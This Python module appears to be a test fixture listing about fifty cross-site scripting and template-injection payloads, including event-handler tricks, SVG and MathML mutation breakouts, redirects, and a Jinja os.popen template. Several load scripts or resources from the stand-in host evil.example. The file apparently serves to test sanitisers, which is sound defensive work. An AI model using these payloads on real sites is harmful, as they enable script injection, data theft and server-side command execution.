"""Text that would do something if a page took it for markup; each calls `ran(n)` or asks the host evil.example."""

from collections.abc import Sequence

EVIL = "evil.example"
_MARKUP = (
    # plain scripts and event handlers
    "<script>{run}</script>",
    "<ScRiPt src=//{evil}/{n}.js></sCrIpT>",
    "<script type=module>import('//{evil}/{n}.js')</script>",
    "<img src=x onerror={run}>",
    "<img src=//{evil}/{n}.png>",
    "<body onload={run}>",
    "<body background=//{evil}/{n}.gif>",
    "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<marquee onstart={run}>",
    "<select autofocus onfocus={run}>",
    "<div onpointerover={run} style='position:fixed;inset:0'>x</div>",
    # SVG and MathML
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<svg><animate attributeName=href values=javascript:{run} /><a><text x=20 y=20>x</text></a></svg>",
    "<svg><set attributeName=style to=background:url(//{evil}/{n})></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload={run} />#x'></svg>",
    "<svg><filter id=f><feImage href=//{evil}/{n}.svg /></filter></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={run}></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=1 onerror={run}>'>",
    # breaking out of what a template puts around it
    "</title><script>{run}</script>",
    "</textarea><script>{run}</script>",
    "</script><script>{run}</script>",
    "</style><script>{run}</script>",
    "--><script>{run}</script><!--",
    "]]><script>{run}</script>",
    '" autofocus onfocus={run} x="',
    "' autofocus onfocus={run} x='",
    "`\" onmouseover={run} style='position:fixed;inset:0' \"",
    '"><img src=x onerror={run}>',
    "&lt;img src=x onerror={run}&gt;",
    "&#60;script&#62;{run}&#60;/script&#62;",
    # other ways to load or go elsewhere
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<iframe src=javascript:parent.{run}></iframe>",
    "<object data=//{evil}/{n}.html></object>",
    "<embed src=//{evil}/{n}.swf>",
    "<link rel=stylesheet href=//{evil}/{n}.css>",
    "<style>@import url(//{evil}/{n}.css);*{{background:url(//{evil}/{n})!important}}</style>",
    "<meta http-equiv=refresh content='0;url=//{evil}/{n}'>",
    "<base href=//{evil}/>",
    "<form action=//{evil}/{n}><button autofocus formaction=javascript:{run}>",
    "<a href=javascript:{run} ping=//{evil}/{n}>javascript:{run}//http://ok.example</a>",
    "<xmp><script>{run}</script></xmp>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<template shadowrootmode=open><script>{run}</script></template>",
    # for our own templates and catalogues
    "{{{{ cycler.__init__.__globals__.os.popen('{run}') }}}}",
    "{{% include 'login.html' %}}{{n}} {{name}} {{0.__class__}} %(n)s ${{n}} <%= {run} %>",
)
PAYLOADS: Sequence[str] = tuple(
    one.format(run=f"ran({number})", evil=EVIL, n=number) for number, one in enumerate(_MARKUP)
)
